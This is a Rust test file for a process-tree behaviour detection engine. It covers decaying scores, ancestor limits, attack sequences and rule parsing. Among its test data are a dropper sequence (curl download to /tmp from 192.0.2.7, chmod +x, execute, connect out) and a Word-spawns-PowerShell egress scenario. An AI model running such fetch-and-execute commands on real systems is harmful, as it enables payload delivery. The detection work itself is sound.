//! Behaviour: events of a process tree in, explained findings out.

#![allow(clippy::unwrap_used, reason = "a failed expectation is the report")]

mod events;

use event_model::{
    BootId, EventHeader, EventRecord, EventType, Field, FieldSource, HostId, Severity, Timestamp, Value,
};
use proptest::prelude::*;
use rule_engine::{
    BehaviourCounters, BehaviourEngine, BehaviourFile, BehaviourFinding, BehaviourSet, CompileOptions,
    CompileOutcome, ParsedRule, Phase, RuleSet, is_behaviour_file, parse_behaviours, parse_rules,
};
use serde_json::{Value as Json, json};
use uuid::Uuid;

const SECOND: i64 = 1_000_000_000;
const BEGIN: i64 = 1_800_000_000 * SECOND;

fn file(content: &Json) -> BehaviourFile {
    let (file, diagnostics) = parse_behaviours("test.behaviour.json", &content.to_string());
    assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    file
}

fn compile(rules: Vec<ParsedRule>, behaviours: Vec<BehaviourFile>) -> CompileOutcome {
    RuleSet::compile_with(rules, CompileOptions { behaviours, ..CompileOptions::default() })
}

fn set(content: &Json) -> RuleSet {
    let outcome = compile(Vec::new(), vec![file(content)]);
    assert!(outcome.diagnostics.is_empty(), "{:#?}", outcome.diagnostics);
    outcome.rules
}

/// A host's rules with what its process trees did.
struct Host {
    rules: RuleSet,
    engine: BehaviourEngine,
}

impl Host {
    fn new(rules: RuleSet) -> Self {
        let engine = BehaviourEngine::new(rules.behaviours().clone());
        Self { rules, engine }
    }

    fn replace(&mut self, rules: RuleSet) {
        self.engine.replace(rules.behaviours().clone());
        self.rules = rules;
    }

    fn observe(&mut self, event: &dyn FieldSource, phase: Phase) -> Vec<BehaviourFinding> {
        self.engine.observe(event, phase, &self.rules.verdicts(event, phase))
    }

    fn counters(&self) -> BehaviourCounters {
        self.engine.counters()
    }
}

fn entity(pid: u32) -> String {
    format!("00000000-{pid}-1")
}

/// An event of process `pid`, started by `parent`, at `seconds`.
fn act(event_type: EventType, seconds: f64, pid: u32, parent: u32, fields: &[(Field, &str)]) -> EventRecord {
    let header = EventHeader {
        host_id: HostId::from_uuid(Uuid::from_u128(1)),
        boot_id: BootId::from_uuid(Uuid::from_u128(2)),
        sequence: 1,
        observed_at: Timestamp::from_nanos(BEGIN + (seconds * SECOND as f64) as i64),
        monotonic_ns: 1,
    };
    let text = |text: &str| Value::Text(text.to_owned());
    let mut all = vec![
        (Field::ProcessEntityId, Value::Text(entity(pid))),
        (Field::ProcessPid, Value::Integer(pid.into())),
        (Field::ParentEntityId, Value::Text(entity(parent))),
    ];
    for (field, value) in fields {
        all.push((*field, text(value)));
        if *field == Field::ProcessExecutable {
            all.push((Field::ProcessName, text(value.rsplit(['/', '\\']).next().unwrap())));
        }
        if *field == Field::ParentExecutable {
            all.push((Field::ParentName, text(value.rsplit(['/', '\\']).next().unwrap())));
        }
    }
    EventRecord::from_fields(header, event_type, all)
}

fn start(seconds: f64, pid: u32, parent: u32, executable: &str) -> EventRecord {
    act(EventType::ProcessStart, seconds, pid, parent, &[(Field::ProcessExecutable, executable)])
}

fn observe(engine: &mut Host, event: &dyn FieldSource) -> Vec<BehaviourFinding> {
    engine.observe(event, Phase::All)
}

/// Programs named `b1`, `b2` … are the behaviours of these weights.
fn weighted(weights: &[f64], settings: Json) -> Json {
    let behaviours = weights.iter().enumerate().map(|(nth, weight)| {
        json!({
            "id": format!("b{}", nth + 1), "name": format!("Behaviour {}", nth + 1), "weight": weight,
            "attack": [format!("T1{nth:03}")], "conditions": [format!("name = 'b{}'", nth + 1)],
        })
    });
    json!({ "settings": settings, "behaviours": behaviours.collect::<Vec<_>>() })
}

fn hundred() -> Json {
    json!({ "half_life": "10m", "ancestor_levels": 3, "thresholds": { "medium": 50, "high": 100 } })
}

#[test]
fn different_behaviours_of_one_tree_pass_a_threshold_once_and_the_finding_tells_which_when_and_how_much() {
    let mut engine = Host::new(set(&weighted(&[40.0, 40.0, 30.0], hundred())));
    assert!(observe(&mut engine, &start(0.0, 10, 1, "/bin/bash")).is_empty());
    assert!(observe(&mut engine, &start(1.0, 11, 10, "/x/b1")).is_empty());
    assert!(observe(&mut engine, &start(2.0, 12, 10, "/x/b1")).is_empty(), "the same again counts once");
    let found = observe(&mut engine, &start(601.0, 13, 10, "/x/b2"));
    assert_eq!(found.len(), 1, "{found:#?}");
    let found = &found[0];
    // b1 was seen last at 2 s: 40 fades by 599 of 600 s of half-life to 20.02.
    assert_eq!(found.rule.id.as_str(), "rampart.behaviour.medium");
    assert_eq!((found.rule.severity, found.tree.pid()), (Severity::Medium, 10));
    assert_eq!(found.rule.attack, ["T1000", "T1001"]);
    assert_eq!(
        found.matched,
        [
            "score 60.0 of the process tree of /bin/bash [10] reaches 50 (medium); half-life 10m",
            "+20.0 of 40: Behaviour 1 (b1), 2027-01-15T08:00:02.000000000Z, /x/b1 [12], 2 times since \
             2027-01-15T08:00:01.000000000Z",
            "+40.0 of 40: Behaviour 2 (b2), 2027-01-15T08:10:01.000000000Z, /x/b2 [13]",
        ]
    );
    for second in 0..100 {
        let again = start(602.0 + f64::from(second), 100 + second as u32, 10, "/x/b2");
        assert!(observe(&mut engine, &again).is_empty(), "no storm");
    }
    observe(&mut engine, &start(702.0, 300, 10, "/x/b1"));
    let higher = observe(&mut engine, &start(703.0, 301, 10, "/x/b3"));
    assert_eq!(higher.iter().map(|it| it.rule.severity).collect::<Vec<_>>(), [Severity::High]);
    assert_eq!(engine.counters().findings, 2);
}

#[test]
fn a_tree_is_told_of_again_after_its_score_has_fallen_to_half_of_the_threshold() {
    let mut engine = Host::new(set(&weighted(&[60.0], hundred())));
    assert_eq!(observe(&mut engine, &start(0.0, 10, 1, "/x/b1")).len(), 1);
    // 60 falls to 25, half of 50, in 758 s.
    assert_eq!(observe(&mut engine, &start(700.0, 10, 1, "/x/b1")).len(), 0);
    assert_eq!(observe(&mut engine, &start(700.0 + 800.0, 10, 1, "/x/b1")).len(), 1);
}

#[test]
fn what_a_child_does_counts_for_so_many_ancestors_and_not_for_boundaries() {
    let mut settings = hundred();
    settings["boundaries"] = json!(["sshd", "containerd-*"]);
    let content = weighted(&[30.0, 30.0], settings);
    // 1 is a boundary, 2 to 6 are a chain of shells.
    let trees_of = |left: u32, right: u32, top: &str| {
        let mut engine = Host::new(set(&content));
        observe(&mut engine, &start(0.0, 1, 0, top));
        for pid in 2..=6 {
            observe(&mut engine, &start(0.0, pid, pid - 1, "/bin/sh"));
        }
        assert!(observe(&mut engine, &start(1.0, 20, left, "/x/b1")).is_empty());
        let found = observe(&mut engine, &start(1.0, 21, right, "/x/b2"));
        found.first().map(|found| found.tree.pid())
    };
    assert_eq!(trees_of(6, 6, "/bin/init"), Some(6), "the nearest common ancestor");
    assert_eq!(trees_of(6, 4, "/bin/init"), Some(4), "three levels up");
    assert_eq!(trees_of(6, 3, "/bin/init"), None, "four levels up it counts no more");
    assert_eq!(trees_of(1, 1, "/usr/sbin/init"), Some(1));
    assert_eq!(trees_of(1, 1, "/usr/sbin/sshd"), None, "two sessions are not one tree");
    assert_eq!(trees_of(1, 1, "/usr/bin/containerd-shim-v2"), None);
}

#[test]
fn a_rule_of_the_rule_set_can_be_a_behaviour() {
    let content = json!({ "settings": hundred(), "behaviours": [
        { "id": "from-rule", "name": "By a rule", "weight": 55, "rule": "sigma-1" },
    ] });
    let mut by_hash = rule("sigma-1", "process.hash.sha256 = 'aa'");
    by_hash.extend(rule("other", "name = 'bash'"));
    let mut host = Host::new(compile(by_hash, vec![file(&content)]).rules);
    let fields = [(Field::ProcessExecutable, "/bin/bash"), (Field::ProcessSha256, "aa")];
    let event = act(EventType::ProcessStart, 0.0, 10, 1, &fields);
    assert!(host.observe(&event, Phase::WithoutHash).is_empty());
    let found = host.observe(&event, Phase::HashOnly);
    assert_eq!(found.len(), 1, "also a rule that waits for the hash counts");
}

fn rule(id: &str, condition: &str) -> Vec<ParsedRule> {
    let text = json!({
        "id": id, "name": id, "description": "d", "type": "process", "severity": "low", "enabled": true,
        "conditions": [condition], "actions": ["alert"],
    });
    let outcome = parse_rules("rule.json", &text.to_string());
    assert!(outcome.is_ok(), "{:#?}", outcome.diagnostics);
    outcome.rules
}

#[test]
fn behaviours_and_rules_are_judged_at_once_and_neither_takes_the_other_down() {
    // The same id in both, a rule given twice, and a sequence that names nothing.
    let mut rules = rule("b1", "name = 'b1'");
    rules.extend(rule("b1", "name = 'b1'"));
    let mut content = weighted(&[60.0, 1.0], hundred());
    content["sequences"] = json!([{
        "id": "lost", "name": "Lost", "severity": "high", "within": "1m",
        "steps": [{ "behaviour": "b1" }, { "behaviour": "gone" }],
    }]);
    let outcome = compile(rules, vec![file(&content)]);
    assert_eq!(outcome.diagnostics.len(), 2, "{:#?}", outcome.diagnostics);
    let set = outcome.rules;
    assert_eq!((set.len(), set.rules().len(), set.behaviours().len()), (1, 1, 3));
    let event = start(0.0, 10, 1, "/x/b1");
    let verdicts = set.verdicts(&event, Phase::All);
    assert_eq!((verdicts.matches.len(), verdicts.is_empty()), (1, false), "a behaviour alerts for nothing");
    assert_eq!(set.evaluate(&start(0.0, 10, 1, "/x/b2"), Phase::All).len(), 0);
    let of = |counters: Vec<rule_engine::RuleCounters<'_>>| {
        counters.iter().map(|it| (it.rule.id.to_string(), it.evaluations, it.matches)).collect::<Vec<_>>()
    };
    assert_eq!(of(set.counters().collect()), [("b1".to_owned(), 2, 1)]);
    let own = [("b1".to_owned(), 2, 1), ("b2".to_owned(), 2, 1)];
    assert_eq!(of(set.behaviour_counters().collect()), own);
    let mut engine = BehaviourEngine::new(set.behaviours().clone());
    assert_eq!(engine.observe(&event, Phase::All, &verdicts).len(), 1);
}

#[test]
fn a_behaviour_by_hash_makes_the_set_wait_for_hashes() {
    let content = json!({ "behaviours": [
        { "id": "b", "name": "By hash", "weight": 60, "conditions": ["process.hash.sha256 = 'aa'"] },
    ] });
    let mut host = Host::new(set(&content));
    assert!(host.rules.needs_hash(EventType::ProcessStart) && host.rules.is_empty());
    let fields = [(Field::ProcessExecutable, "/bin/x"), (Field::ProcessSha256, "aa")];
    let event = act(EventType::ProcessStart, 0.0, 10, 1, &fields);
    assert!(host.observe(&event, Phase::WithoutHash).is_empty());
    assert_eq!(host.observe(&event, Phase::HashOnly).len(), 1);
}

fn dropper() -> Json {
    json!({
        "behaviours": [
            { "id": "download", "name": "Download", "weight": 0, "conditions": ["name = 'curl'"] },
            { "id": "fetch", "name": "Fetch", "weight": 0, "conditions": ["name = 'wget'"] },
        ],
        "sequences": [{
            "id": "drop", "name": "Dropper", "description": "d", "severity": "high", "within": "60s", "attack": ["T1105"],
            "steps": [
                { "behaviour": ["download", "fetch"] },
                { "name": "Made executable", "conditions": ["name = 'chmod'"] },
                { "name": "Connected", "type": "network", "conditions": ["process.executable startswith '/tmp/'"] },
            ],
        }],
    })
}

fn connect(seconds: f64, pid: u32, parent: u32) -> EventRecord {
    act(EventType::NetworkConnect, seconds, pid, parent, &[(Field::ProcessExecutable, "/tmp/x")])
}

#[test]
fn a_sequence_is_told_once_where_its_steps_come_in_order_in_time_and_in_one_tree() {
    // (seconds, pid, parent, what); siblings below the shell 10.
    let found_in = |acts: &[(f64, u32, u32, &str)]| {
        let mut engine = Host::new(set(&dropper()));
        observe(&mut engine, &start(0.0, 10, 1, "/bin/bash"));
        observe(&mut engine, &start(0.0, 50, 2, "/bin/bash"));
        let of = |(seconds, pid, parent, what): &(f64, u32, u32, &str)| match *what {
            "connect" => connect(*seconds, *pid, *parent),
            program => start(*seconds, *pid, *parent, program),
        };
        acts.iter().flat_map(|act| observe(&mut engine, &of(act))).collect::<Vec<_>>()
    };
    let (get, change) = ("/usr/bin/wget", "/bin/chmod");
    let found = found_in(&[
        (1.0, 11, 10, get),
        (2.0, 12, 10, change),
        (3.5, 13, 10, "connect"),
        (4.0, 13, 10, "connect"),
    ]);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(
        (found[0].rule.id.as_str(), found[0].rule.severity, found[0].tree.pid()),
        ("drop", Severity::High, 10)
    );
    assert_eq!(found[0].matched[0], "3 steps in 2.500 s (at most 1m) in the process tree of /bin/bash [10]");
    assert_eq!(found[0].matched[3], "3. Connected: 2027-01-15T08:00:03.500000000Z, /tmp/x [13]");

    let none = |acts: &[_], why: &str| assert!(found_in(acts).is_empty(), "{why}");
    none(&[(1.0, 12, 10, change), (2.0, 11, 10, get), (3.0, 13, 10, "connect")], "in another order");
    none(&[(1.0, 11, 10, get), (2.0, 12, 10, change), (62.0, 13, 10, "connect")], "too late");
    none(&[(1.0, 11, 10, get), (2.0, 12, 50, change), (3.0, 13, 10, "connect")], "in two trees");
    let late_start =
        [(1.0, 11, 10, get), (50.0, 11, 10, get), (55.0, 12, 10, change), (90.0, 13, 10, "connect")];
    assert_eq!(found_in(&late_start).len(), 1, "a later first step begins a new chain");
}

#[test]
fn what_was_seen_survives_new_rules_and_takes_their_weights() {
    let mut engine = Host::new(set(&weighted(&[30.0, 30.0], hundred())));
    observe(&mut engine, &start(0.0, 10, 1, "/x/b1"));
    // b1 is another place now, and heavier; b2 is gone.
    let mut content = weighted(&[6.0, 5.0, 45.0], hundred());
    content["behaviours"][2]["id"] = json!("b1");
    content["behaviours"][2]["conditions"] = json!(["name = 'b1'"]);
    content["behaviours"][0]["id"] = json!("b3");
    content["behaviours"][0]["conditions"] = json!(["name = 'b3'"]);
    content["behaviours"][1]["id"] = json!("b4");
    engine.replace(set(&content));
    let found = observe(&mut engine, &start(1.0, 10, 1, "/x/b3"));
    assert_eq!(found.len(), 1);
    assert!(found[0].matched[1].starts_with("+44.9 of 45: Behaviour 3 (b1)"), "{:?}", found[0].matched);

    let mut engine = Host::new(set(&dropper()));
    observe(&mut engine, &start(1.0, 11, 10, "/bin/curl"));
    engine.replace(set(&dropper()));
    observe(&mut engine, &start(2.0, 12, 10, "/bin/chmod"));
    assert_eq!(observe(&mut engine, &connect(3.0, 13, 10)).len(), 1, "half a sequence goes on");
    let mut changed = dropper();
    changed["sequences"][0]["steps"] = json!([{ "behaviour": "download" }, { "behaviour": "fetch" }]);
    observe(&mut engine, &start(100.0, 11, 10, "/bin/curl"));
    engine.replace(set(&changed));
    assert!(
        observe(&mut engine, &start(101.0, 12, 10, "/bin/wget")).is_empty(),
        "another sequence begins anew"
    );
}

#[test]
fn memory_is_bounded_and_what_is_forgotten_is_counted() {
    let mut engine = Host::new(set(&weighted(&[30.0, 30.0], hundred())));
    // A tree that did something, and then a fork bomb beside it.
    observe(&mut engine, &start(0.0, 10, 1, "/bin/bash"));
    observe(&mut engine, &start(1.0, 11, 10, "/x/b1"));
    for pid in 1_000..41_000 {
        observe(&mut engine, &start(2.0, pid, 5, "/bin/bomb"));
    }
    let counters = engine.counters();
    assert!(counters.processes <= 16_384, "{counters:?}");
    assert!(counters.evicted_processes > 20_000 && counters.evicted_scores == 0, "{counters:?}");
    assert_eq!(observe(&mut engine, &start(3.0, 12, 10, "/x/b2")).len(), 1, "a score outlives a fork bomb");
    // Trees without number that all do something.
    for pid in 100_000..110_000 {
        observe(&mut engine, &start(4.0, pid, pid + 100_000, "/x/b1"));
    }
    let counters = engine.counters();
    assert!(counters.scores <= 2_048 && counters.evicted_scores > 7_000, "{counters:?}");
    // More different behaviours than are kept for one process.
    let weights: Vec<f64> = (1..=40).map(|weight| f64::from(weight) / 100.0).collect();
    let mut engine = Host::new(set(&weighted(&weights, hundred())));
    for nth in 1..=40 {
        observe(&mut engine, &start(0.0, 10, 1, &format!("/x/b{nth}")));
    }
    assert_eq!(engine.counters().evicted_evidence, 16, "of the process and of its parent");
}

#[test]
fn a_tree_stands_in_a_bounded_number_of_sequences_and_goes_on_in_the_latest() {
    let sequences = (0..100).map(|nth| {
        json!({
            "id": format!("s{nth}"), "name": "S", "severity": "high", "within": "10m",
            "steps": [{ "conditions": [format!("name = 'first{nth}'")] }, { "conditions": ["name = 'last'"] }],
        })
    });
    let content = json!({ "sequences": sequences.collect::<Vec<_>>() });
    let mut host = Host::new(set(&content));
    for nth in 0..100 {
        let begins = start(f64::from(nth), 10, 1, &format!("/x/first{nth}"));
        assert!(observe(&mut host, &begins).is_empty());
    }
    // Of the process and of its parent.
    assert_eq!(host.counters().evicted_evidence, 2 * (100 - 32));
    let found = observe(&mut host, &start(100.0, 10, 1, "/x/last"));
    let mut ids: Vec<&str> = found.iter().map(|it| it.rule.id.as_str()).collect();
    ids.sort_unstable();
    assert_eq!((ids.len(), ids.contains(&"s99"), ids.contains(&"s67")), (32, true, false));
}

#[test]
fn events_without_a_process_are_counted_and_not_guessed_at() {
    let mut engine = Host::new(set(&weighted(&[60.0], hundred())));
    let event = events::process_start(json!({ "process.name": "b1" }));
    assert!(observe(&mut engine, &event).is_empty());
    assert_eq!(engine.counters().without_process, 1);
}

proptest! {
    /// Against the definition, computed anew from all that happened: of each behaviour the last time counts, its
    /// weight halves with each half-life.
    #[test]
    fn scores_are_those_of_the_definition(
        weights in proptest::collection::vec(1.0_f64..100.0, 1..6),
        acts in proptest::collection::vec((0_usize..6, 0_u32..4, 0.0_f64..400.0), 1..40),
        half_life in 1_u32..2_000,
    ) {
        let with_threshold = |threshold: f64| weighted(&weights, json!({
            "half_life": format!("{half_life}s"), "thresholds": { "low": threshold },
        }));
        let mut engine = Host::new(set(&with_threshold(9_999.0)));
        let (mut now, mut last) = (0.0, vec![None; weights.len()]);
        observe(&mut engine, &start(0.0, 10, 1, "/bin/bash"));
        for (which, child, pause) in acts {
            now += pause;
            let which = which % weights.len();
            last[which] = Some(now);
            let found = observe(&mut engine, &start(now, 20 + child, 10, &format!("/x/b{}", which + 1)));
            prop_assert!(found.is_empty());
        }
        // What has faded to nothing reaches no threshold; the last act is always fresh.
        let mut asked = with_threshold(0.5);
        asked["behaviours"].as_array_mut().unwrap().push(json!({
            "id": "asked", "name": "Asked", "weight": 1, "conditions": ["name = 'asked'"],
        }));
        engine.replace(set(&asked));
        now += 100.0;
        let found = observe(&mut engine, &act(EventType::ProcessStart, now, 10, 1, &[
            (Field::ProcessExecutable, "/x/asked"),
        ]));
        let told: f64 = found[0].matched[0].split(' ').nth(1).unwrap().parse().unwrap();
        let left = |(last, weight): (&Option<f64>, &f64)| {
            last.map_or(0.0, |last| weight * 0.5_f64.powf((now - last) / f64::from(half_life)))
        };
        let expected: f64 = 1.0 + last.iter().zip(&weights).map(left).sum::<f64>();
        prop_assert!((told - expected).abs() < 0.051, "{told} against {expected}");
    }
}

#[test]
fn mistakes_are_told_with_their_place_and_cost_only_themselves() {
    let text = r#"{
  "settings": { "half_life": "soon" },
  "behaviours": [
    { "id": "good", "name": "Good", "weight": 5, "conditions": ["name = 'x'"] },
    { "id": "heavy", "name": "Heavy", "weight": 5000, "conditions": ["name = 'x'"] },
    { "id": "typo", "name": "Typo", "weigth": 5, "conditions": ["nam = 'x'"] },
    { "id": "none", "name": "None", "weight": 5 },
    { "id": "rampart.x", "name": "Taken", "weight": 5, "conditions": ["name = 'x'"] }
  ],
  "parent_child": [{ "id": "pair", "name": "Pair", "weight": 5, "parents": ["a/b"], "children": [] }],
  "sequences": [
    { "id": "short", "name": "Short", "severity": "high", "within": "1m", "steps": [{ "behaviour": "good" }] },
    { "id": "lost", "name": "Lost", "severity": "high", "within": "1m", "steps": [{ "behaviour": "good" }, { "behaviour": "gone" }] }
  ]
}"#;
    let (file, diagnostics) = parse_behaviours("bad.behaviour.json", text);
    let told = |line: u32, part: &str| {
        let hit = diagnostics.iter().any(|it| it.line == line && it.is_error() && it.reason.contains(part));
        assert!(hit, "{line}: {part}: {diagnostics:#?}");
    };
    told(2, "`soon` is no `half_life`");
    told(5, "`5000` is no `weight`");
    told(6, "no key `weigth`");
    told(6, "`nam` is not a field");
    told(7, "has no `conditions`");
    told(8, "`rampart.x` is no id");
    told(10, "`a/b` is no name of a program");
    told(12, "2 to 8 steps");
    let outcome = compile(Vec::new(), vec![file]);
    assert_eq!(outcome.rules.behaviours().len(), 2, "the good one, and what the sequence would count");
    assert_eq!(outcome.diagnostics.len(), 1, "{:#?}", outcome.diagnostics);
    assert!(outcome.diagnostics[0].reason.contains("no behaviour has the id `gone`"));
    for text in ["", "[]", "{", "{\"behaviours\": 7}", "{\"behaviours\": [null, [], {}]}", "{\"x\": 1}"] {
        let (_, diagnostics) = parse_behaviours("x", text);
        assert!(diagnostics.iter().any(rule_engine::Diagnostic::is_error), "{text}");
    }
}

#[test]
fn a_later_file_replaces_and_takes_away_by_id() {
    let own = json!({
        "settings": { "thresholds": { "medium": 10 } },
        "behaviours": [
            { "id": "b1", "name": "Mine", "weight": 12, "conditions": ["name = 'mine'"] },
            { "id": "b2", "name": "Off", "weight": 12, "conditions": ["name = 'b2'"], "enabled": false },
        ],
    });
    let outcome = compile(Vec::new(), vec![file(&weighted(&[60.0, 60.0], hundred())), file(&own)]);
    let mut engine = Host::new(outcome.rules);
    assert!(observe(&mut engine, &start(0.0, 10, 1, "/x/b1")).is_empty());
    assert!(observe(&mut engine, &start(0.0, 11, 1, "/x/b2")).is_empty());
    assert_eq!(observe(&mut engine, &start(0.0, 12, 1, "/x/mine")).len(), 1);
}

#[test]
fn an_override_changes_what_an_earlier_file_has() {
    let changes = json!({ "overrides": [
        { "id": "b1", "enabled": false }, { "id": "b2", "weight": 60 }, { "id": "drop", "enabled": false },
        { "id": "gone", "weight": 1 },
    ] });
    let files = || vec![file(&weighted(&[60.0, 1.0], hundred())), file(&dropper()), file(&changes)];
    let outcome = compile(Vec::new(), files());
    assert_eq!(outcome.diagnostics.len(), 1, "{:#?}", outcome.diagnostics);
    assert!(outcome.diagnostics[0].reason.contains("`gone`"), "{:#?}", outcome.diagnostics);
    let heads = BehaviourSet::heads(files());
    let shown: Vec<_> = heads.iter().map(|it| (&*it.id, it.weight, it.enabled, it.shown_by)).collect();
    assert_eq!(shown[0], ("b1", 60.0, false, "conditions"));
    assert_eq!(shown.last(), Some(&("drop", 0.0, false, "sequence")));
    let mut host = Host::new(outcome.rules);
    assert!(observe(&mut host, &start(0.0, 10, 1, "/x/b1")).is_empty());
    assert_eq!(observe(&mut host, &start(0.0, 11, 1, "/x/b2")).len(), 1);
    for event in [start(1.0, 11, 10, "/bin/curl"), start(2.0, 12, 10, "/bin/chmod"), connect(3.0, 13, 10)] {
        assert!(observe(&mut host, &event).is_empty(), "its sequence is off");
    }
    let nothing = json!({ "overrides": [{ "id": "b1" }, { "id": "b2", "enabled": "no" }] }).to_string();
    let (read, diagnostics) = parse_behaviours("x.behaviour.json", &nothing);
    assert_eq!((read.entries(), diagnostics.len()), (0, 2), "{diagnostics:#?}");
}

#[test]
fn the_built_in_files_are_good_and_see_a_document_that_starts_a_shell() {
    for name in ["linux", "windows"] {
        let path = format!("{}/data/behaviour/{name}.behaviour.json", env!("CARGO_MANIFEST_DIR"));
        assert!(is_behaviour_file(&path));
        let (_, diagnostics) = parse_behaviours(&path, &std::fs::read_to_string(&path).unwrap());
        assert!(diagnostics.is_empty(), "{diagnostics:#?}");
    }
    let outcome = compile(Vec::new(), BehaviourSet::built_in());
    assert!(outcome.diagnostics.is_empty(), "{:#?}", outcome.diagnostics);
    let mut engine = Host::new(outcome.rules);
    let shell = act(
        EventType::ProcessStart,
        0.0,
        10,
        9,
        &[
            (Field::ProcessExecutable, r"C:\Windows\System32\powershell.exe"),
            (Field::ParentExecutable, r"C:\Program Files\Microsoft Office\WINWORD.EXE"),
        ],
    );
    let found = observe(&mut engine, &shell);
    assert_eq!(found[0].rule.severity, Severity::Medium);
    let connection = act(
        EventType::NetworkConnect,
        5.0,
        10,
        9,
        &[
            (Field::ProcessExecutable, r"C:\Windows\System32\powershell.exe"),
            (Field::NetworkDirection, "egress"),
            (Field::DestinationAddress, "192.0.2.7"),
        ],
    );
    let found = observe(&mut engine, &connection);
    let ids: Vec<&str> = found.iter().map(|it| it.rule.id.as_str()).collect();
    assert_eq!(ids, ["windows-document-to-connection", "rampart.behaviour.high"]);
}

#[test]
fn the_built_in_files_see_a_dropper_on_linux() {
    let outcome = compile(Vec::new(), BehaviourSet::built_in());
    let mut engine = Host::new(outcome.rules);
    observe(&mut engine, &start(0.0, 10, 1, "/bin/bash"));
    let run = |seconds, pid, path, command| {
        let fields = [
            (Field::ProcessExecutable, path),
            (Field::ProcessCommandLine, command),
            (Field::EventAction, "exec"),
        ];
        act(EventType::ProcessStart, seconds, pid, 10, &fields)
    };
    let mut found = observe(&mut engine, &run(1.0, 11, "/usr/bin/curl", "curl -o /tmp/x http://192.0.2.7/x"));
    found.extend(observe(&mut engine, &run(2.0, 12, "/usr/bin/chmod", "chmod +x /tmp/x")));
    found.extend(observe(&mut engine, &run(3.0, 13, "/tmp/x", "/tmp/x")));
    let fields = [
        (Field::ProcessExecutable, "/tmp/x"),
        (Field::NetworkDirection, "egress"),
        (Field::DestinationAddress, "192.0.2.7"),
    ];
    found.extend(observe(&mut engine, &act(EventType::NetworkConnect, 4.0, 13, 10, &fields)));
    let ids: Vec<(&str, u32)> = found.iter().map(|it| (it.rule.id.as_str(), it.tree.pid())).collect();
    assert_eq!(ids, [("linux-dropper", 10), ("rampart.behaviour.high", 10)]);
}
